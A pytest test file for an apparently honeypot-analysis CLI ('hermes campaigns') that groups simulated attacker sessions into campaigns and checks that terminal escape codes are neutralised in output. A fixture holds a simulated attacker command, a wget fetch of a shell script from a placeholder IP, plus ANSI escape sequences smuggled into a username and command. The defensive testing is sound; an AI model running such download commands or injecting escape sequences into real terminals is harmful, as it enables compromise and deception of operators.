import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from hermes.cli import app
from tests.unit.analysis.sensor import left_by
from tests.unit.analysis.world import artifact, attack

Run = Callable[..., Result]


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What two sessions of one campaign, and one of none, leave."""
    directory = tmp_path_factory.mktemp("sensor")
    left_by(
        directory,
        *attack("first", "wget http://192.0.2.66/\x1b[31mx.sh", user="\x1b[2Jroot", more=[artifact("a" * 64)]),
        *attack("second", "whoami", address="192.0.2.99", more=[artifact("a" * 64)]),
        *attack("other", "uname"),
    )
    return directory


@pytest.fixture
def run(data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HERMES_DATA_DIR", str(data_dir))
    return lambda *arguments: CliRunner().invoke(app, ["campaigns", *arguments])


def parsed(result: Result) -> Any:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_list_names_campaigns_and_their_reasons(run: Run) -> None:
    (campaign,) = parsed(run("list", "--json"))
    assert (campaign["sessions"], campaign["addresses"]) == (2, 2)
    assert [(it["kind"], it["value"], it["sessions"]) for it in campaign["reasons"]] == [("payload", "a" * 64, 2)]
    shown = run("list").stdout
    assert f"{campaign['id']}  2 sessions from 2 addresses" in shown
    assert "2 share the content of a file: /tmp/x" in shown
    assert run("list", "--since", "2100-01-01").stdout == "No campaigns.\n"


def test_show_lists_its_sessions_without_moving_the_terminal(run: Run) -> None:
    (campaign,) = parsed(run("list", "--json"))
    whole = parsed(run("show", campaign["id"], "--json"))
    assert [it["session_id"] for it in whole["session_list"]] == ["second", "first"]
    shown = run("show", campaign["id"]).stdout
    assert "first  \\x1b[2Jroot from 192.0.2.7" in shown
    assert "\x1b" not in shown


def test_what_is_not_there_is_said_in_one_line(run: Run) -> None:
    result = run("show", "C99999")
    assert (result.exit_code, result.stderr) == (1, "hermes: there is no campaign C99999\n")
    result = run("show", "nonsense\x1b")
    assert result.exit_code == 1
    assert "such as C42" in result.stderr
    assert "\x1b" not in result.stderr


def test_without_an_index_that_is_said(run: Run, tmp_path: Path) -> None:
    result = run("list", "--set", f"data_dir={tmp_path}")
    assert result.exit_code == 1
    assert result.stderr.startswith("hermes: there is no index at ")
